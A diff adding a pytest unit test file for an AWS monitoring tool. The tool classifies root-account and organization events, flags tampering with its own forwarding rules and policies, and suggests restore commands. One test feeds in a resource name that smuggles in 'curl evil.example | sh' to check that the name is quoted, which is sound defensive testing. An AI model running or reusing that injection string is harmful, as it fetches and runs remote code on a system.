@@ -1,0 +1,231 @@
+"""What is said of steps before a takeover, of ways out, and of the watch itself touched."""
+
+from typing import Any
+
+import pytest
+
+from lambdas.domain.activity.finding import Finding
+from lambdas.domain.activity.watch import Watch
+from tests.unit.given import HUB, MANAGEMENT, MEMBER
+from tests.unit.sample_events import record, sample
+
+WATCH = Watch(management_account_id=MANAGEMENT, hub_account_id=HUB)
+REFUSED = {"errorCode": "AccessDenied"}
+ROOT = {"type": "Root", "arn": f"arn:aws:iam::{MEMBER}:root"}
+BY_A_SERVICE = {"userIdentity": ROOT | {"invokedBy": "controltower.amazonaws.com"}}
+RULE = "StackSet-rootwarden-forw-ForwardingRootApiCallRule-1ABCDEFGHIJKL"
+BY_CLOUDFORMATION = {"type": "AssumedRole", "invokedBy": "cloudformation.amazonaws.com"}
+
+TABLE = [
+    # sample, changed fields, activity, severity
+    ("start_primary_email_update", {}, "root_email_update_started", "high"),
+    ("start_primary_email_update", REFUSED, "root_email_update_started", "medium"),
+    ("accept_primary_email_update", {}, "root_email_update_accepted", "critical"),
+    ("accept_primary_email_update", REFUSED, "root_email_update_accepted", "high"),
+    ("sign_in_anomaly", {}, "sign_in_anomaly", "high"),
+    ("sign_in_anomaly", {"userIdentity": None}, "sign_in_anomaly", "high"),
+    ("sign_in_anomaly", {"userIdentity": {"arn": ROOT["arn"]}}, "sign_in_anomaly", "high"),
+    ("sign_in_anomaly_iam_user", {}, None, "info"),
+    ("leave_organization_refused", {"errorCode": None, "errorMessage": None}, "account_leaving", "critical"),
+    ("leave_organization_by_root", BY_A_SERVICE, "account_leaving", "critical"),
+    ("leave_organization_refused", {}, "account_leaving", "high"),
+    ("remove_account_from_organization", {}, "account_removed", "high"),
+    ("remove_account_from_organization", REFUSED, "account_removed", "medium"),
+    ("close_account", {}, "account_closing", "high"),
+    ("close_account", REFUSED, "account_closing", "medium"),
+    ("put_console_authorization_configuration", {}, "sign_in_guard_changed", "high"),
+    ("put_console_authorization_configuration", REFUSED, "sign_in_guard_changed", "medium"),
+    ("forwarding_rule_deleted", {}, "watch_taken_down", "critical"),
+    ("forwarding_rule_deleted", REFUSED, "watch_change_refused", "high"),
+    ("forwarding_rule_deleted", {"userIdentity": ROOT}, "watch_taken_down", "critical"),
+    ("forwarding_rule_deleted", {"userIdentity": BY_CLOUDFORMATION}, "watch_taken_down", "critical"),
+    ("forwarding_rule_deleted", {"eventName": "EnableRule"}, "watch_changed", "medium"),
+    ("forwarding_rule_deleted", {"eventName": "PutRule"}, "watch_changed", "critical"),
+    ("forwarding_rule_disabled", {}, "watch_taken_down", "critical"),
+    ("forwarding_rule_updated_by_stack_sets", {}, None, "info"),
+    ("forwarding_rule_updated_by_stack_sets", {"eventName": "DeleteRule"}, None, "info"),
+    ("forwarding_role_policy_deleted", {}, "watch_taken_down", "critical"),
+    ("forwarding_role_policy_deleted", {"eventName": "UpdateAssumeRolePolicy"}, "watch_changed", "critical"),
+    ("forwarding_role_policy_deleted", {"eventName": "TagRole"}, None, "info"),
+    ("forwarding_queue_purged", {}, "watch_taken_down", "critical"),
+    ("stack_instance_deleted", {}, "watch_taken_down", "critical"),
+    ("stack_instance_deleted", {"eventName": "UpdateStack"}, "watch_changed", "critical"),
+    ("stack_set_updated_by_deployment", {}, "watch_changed", "low"),
+    (
+        "stack_set_updated_by_deployment",
+        {"requestParameters": {"stackSetName": "rootwarden-forwarding-canary"}},
+        "watch_changed",
+        "low",
+    ),
+    (
+        "stack_set_updated_by_deployment",
+        {"eventName": "DeleteStackInstances"},
+        "watch_taken_down",
+        "critical",
+    ),
+    ("hub_stack_deployed", {}, "watch_changed", "medium"),
+    ("hub_stack_deployed", {"eventName": "DeleteStack"}, "watch_taken_down", "critical"),
+    ("hub_bus_policy_changed", {}, "watch_taken_down", "critical"),
+    ("hub_source_disabled", {}, "watch_taken_down", "critical"),
+    ("disable_stack_sets_access", {}, "watch_taken_down", "critical"),
+    ("disable_stack_sets_access", REFUSED, "watch_change_refused", "high"),
+    ("deactivate_stack_sets_access", {}, "watch_taken_down", "critical"),
+    ("deregister_stack_sets_administrator", {}, "watch_taken_down", "critical"),
+    ("detach_deny_root_policy", {}, "watch_taken_down", "critical"),
+    ("detach_deny_root_policy", {"eventName": "UpdatePolicy"}, "watch_taken_down", "critical"),
+    ("detach_deny_root_policy", {"eventName": "DisablePolicyType"}, "watch_taken_down", "critical"),
+    (
+        "detach_deny_root_policy",
+        {"eventName": "UpdatePolicy", "userIdentity": BY_CLOUDFORMATION},
+        "watch_changed",
+        "low",
+    ),
+]
+
+
+def judge(name: str, **changed: object) -> Finding | None:
+    return WATCH.finding(record(sample(name, **changed)))
+
+
+@pytest.mark.parametrize(("name", "changed", "activity", "severity"), TABLE)
+def test_each_act_is_judged(name: str, changed: dict[str, Any], activity: str | None, severity: str) -> None:
+    found = judge(name, **changed)
+
+    assert found is not None
+    assert (found.activity, found.assessment.severity) == (activity, severity)
+    if changed is REFUSED:
+        assert found.assessment.reason.endswith("and AWS refused it (AccessDenied)")
+        assert found.put_back is None
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "forwarding_rule_deleted_other_team",
+        "hub_rule_put_by_vending",
+        "disable_trusted_access_other_service",
+        "register_delegated_administrator_other_service",
+        "root_api_long_term_key",
+        "leave_organization_by_root",
+    ],
+)
+def test_what_is_not_of_the_watch_is_left_to_others(name: str) -> None:
+    assert judge(name) is None
+
+
+def test_of_root_nothing_is_silenced_and_no_policy_is_taken_for_a_protecting_one() -> None:
+    for name in ("hub_stack_deployed", "stack_set_updated_by_deployment", "detach_deny_root_policy"):
+        assert judge(name, userIdentity=ROOT) is None
+    assert judge("forwarding_role_policy_deleted", userIdentity=ROOT, eventName="TagRole") is None
+
+
+@pytest.mark.parametrize(
+    ("name", "account"), [("hub_bus_policy_changed", MEMBER), ("hub_stack_deployed", MANAGEMENT)]
+)
+def test_a_resource_called_like_ours_elsewhere_raises_no_alarm(name: str, account: str) -> None:
+    event = sample(name) | {"account": account}
+
+    found = WATCH.finding(record(event))
+
+    assert found is not None
+    assert found.activity is None
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        # The name without the service, the service without the name, and a role of another account.
+        {"invokedBy": None},
+        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:role/Admin"}}},
+        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{HUB}:role/stacksets-exec-0a1b"}}},
+    ],
+)
+def test_who_is_only_called_like_stack_sets_is_not_stack_sets(changed: dict[str, Any]) -> None:
+    event = sample("forwarding_rule_updated_by_stack_sets", sourceIPAddress="198.51.100.7")
+    event["detail"]["userIdentity"].update(changed)
+
+    found = WATCH.finding(record(event))
+
+    assert found is not None
+    assert (found.activity, found.assessment.severity) == ("watch_changed", "critical")
+
+
+def test_the_service_linked_role_is_stack_sets_by_itself() -> None:
+    service = "member.org.stacksets.cloudformation.amazonaws.com"
+    role = f"role/aws-service-role/{service}/AWSServiceRoleForCloudFormationStackSetsOrgMember"
+    identity = {
+        "type": "AssumedRole",
+        "sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:{role}"}},
+    }
+    parameters = {"roleName": "stacksets-exec-0a1b2c3d"}
+
+    by_service, by_person = (
+        judge(
+            "forwarding_role_policy_deleted", eventName="CreateRole", requestParameters=parameters, **changed
+        )
+        for changed in ({"userIdentity": identity}, {})
+    )
+
+    assert by_service is not None
+    assert by_person is not None
+    assert (by_service.activity, by_person.activity) == (None, "watch_changed")
+
+
+def test_a_rule_put_as_disabled_is_taken_down_even_by_a_deployment() -> None:
+    event = sample("forwarding_rule_deleted", eventName="PutRule", userIdentity=BY_CLOUDFORMATION)
+    event["detail"]["requestParameters"] = {
+        "name": "RootWardenOrganization-ForwardingRule-1",
+        "state": "DISABLED",
+    }
+
+    found = WATCH.finding(record(event | {"account": MANAGEMENT}))
+
+    assert found is not None
+    assert (found.activity, found.assessment.severity) == ("watch_taken_down", "critical")
+
+
+def test_the_account_affected_is_the_one_named() -> None:
+    for name in ("start_primary_email_update", "remove_account_from_organization", "close_account"):
+        found = judge(name)
+        assert found is not None
+        assert found.account_id == MEMBER
+
+
+@pytest.mark.parametrize(
+    ("name", "command"),
+    [
+        (
+            "forwarding_rule_disabled",
+            f"aws events enable-rule --region us-east-1 --name {RULE}",
+        ),
+        (
+            "forwarding_rule_deleted",
+            "--stack-set-name rootwarden-forwarding --regions us-east-1 --deployment-targets",
+        ),
+        ("hub_bus_policy_changed", "--stack-name RootWardenHub --change-set-name put-back"),
+        (
+            "detach_deny_root_policy",
+            "aws organizations attach-policy --policy-id p-denyroot1 --target-id ou-ab12-11111111",
+        ),
+        ("disable_stack_sets_access", "aws cloudformation activate-organizations-access --region us-east-1"),
+        (
+            "deregister_stack_sets_administrator",
+            "register-delegated-administrator --account-id 555566667777 --service-principal member.org.stack",
+        ),
+    ],
+)
+def test_what_was_taken_down_comes_with_the_command_that_puts_it_back(name: str, command: str) -> None:
+    found = judge(name)
+
+    assert found is not None
+    assert found.put_back is not None
+    assert command in found.put_back
+
+
+def test_a_name_cannot_become_a_command() -> None:
+    name = "StackSet-rootwarden-x; curl evil.example | sh"
+
+    found = judge("forwarding_rule_disabled", requestParameters={"name": name})
+
+    assert found is not None
+    assert found.put_back == f"aws events enable-rule --region us-east-1 --name '{name}'"
